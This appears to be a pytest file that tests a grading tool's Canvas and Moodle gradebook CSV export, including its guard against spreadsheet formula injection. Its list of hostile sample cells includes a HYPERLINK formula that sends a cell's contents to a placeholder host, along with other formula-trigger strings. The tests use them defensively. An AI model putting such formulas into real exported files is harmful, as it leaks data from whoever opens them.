"""Results and gradebook CSVs: columns, ungraded rows, and formula injection (BAD_INPUTS 40)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from grader.batches.export import (
    Sheet,
    format_number,
    gradebook_csv,
    results_csv,
    safe_cell,
    write_csv,
)
from tests.unit.batch_fixtures import simple

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def _gradebook(records: list[dict[str, Any]], *args: Any, **kwargs: Any) -> str:
    return gradebook_csv([Sheet.from_record(r) for r in records], *args, **kwargs)


def _results(records: list[dict[str, Any]], **kwargs: Any) -> str:
    return results_csv([Sheet.from_record(r) for r in records], **kwargs)


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _records() -> list[dict[str, Any]]:
    return [
        {
            "submission_id": "a1",
            "student_id": "s1",
            "status": "graded",
            "result": simple(2, 1, 0.5),
        },
        {"submission_id": "a2", "student_id": "s2", "status": "queued", "result": None},
    ]


@pytest.mark.parametrize("value", HOSTILE)
def test_injection_prone_text_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_injection_cells_survive_the_csv_module() -> None:
    records = [{"student_id": v, "status": "graded", "result": simple(1, 1, 1)} for v in HOSTILE]
    rows = _read(_gradebook(records, "moodle"))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE]
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_negative_numbers_stay_numeric() -> None:
    rows = _read(write_csv([["s1", -1.5, -2, 0.0, "-3"]]))
    assert rows == [["s1", "-1.5", "-2", "0", "'-3"]]  # the string "-3" is text, and stays so
    assert float(rows[0][1]) == -1.5


def test_number_format() -> None:
    assert [format_number(x) for x in (1.0, 0.1 + 0.2, 1e-5, -0.00001, 12.34567)] == [
        "1",
        "0.3",
        "0",
        "0",
        "12.3457",
    ]
    assert safe_cell(float("nan")) == "" and safe_cell(None) == "" and safe_cell(True) == "true"


def test_canvas_gradebook() -> None:
    rows = _read(_gradebook(_records(), "canvas"))
    assert rows == [
        ["Student ID", "q1", "q2", "Total"],
        ["s1", "2", "1.5", "3.5"],
        ["s2", "", "", ""],
    ]  # not graded yet: empty, so an import keeps the old grade
    with_feedback = _read(_gradebook(_records(), "canvas", feedback=True))
    assert with_feedback[0][-1] == "Feedback"


def test_moodle_gradebook_has_feedback() -> None:
    records = _records()
    records[0]["result"]["questions"][1]["criteria"][1]["feedback"] = "=Missing: tanh"
    rows = _read(_gradebook(records, "moodle"))
    assert rows[0] == ["ID number", "q1", "q2", "Total", "Feedback"]
    assert rows[1][:4] == ["s1", "2", "1.5", "3.5"]
    assert rows[1][4] == "q2 (1.5/2): =Missing: tanh"  # not at the start: no quote needed


def test_feedback_starting_with_a_trigger_is_quoted() -> None:
    records = _records()
    records[0]["result"]["questions"] = records[0]["result"]["questions"][1:]
    records[0]["result"]["questions"][0]["id"] = "-q"
    rows = _read(_gradebook(records, "moodle"))
    assert rows[1][-1].startswith("'-q (1.5/2)")


def test_results_csv_with_criteria() -> None:
    rows = _read(_results(_records(), criteria=True))
    assert rows[0] == [
        "student_id",
        "submission_id",
        "status",
        "score",
        "max_score",
        "needs_review",
        "q1",
        "q2",
        "q1.a",
        "q2.b1",
        "q2.b2",
    ]
    assert rows[1] == ["s1", "a1", "graded", "3.5", "4", "false", "2", "1.5", "2", "1", "0.5"]
    assert rows[2] == ["s2", "a2", "queued", "", "", "", "", "", "", "", ""]


def test_unknown_form() -> None:
    with pytest.raises(ValueError, match="canvas or moodle"):
        _gradebook(_records(), "blackboard")  # type: ignore[arg-type]  # the wrong form on purpose
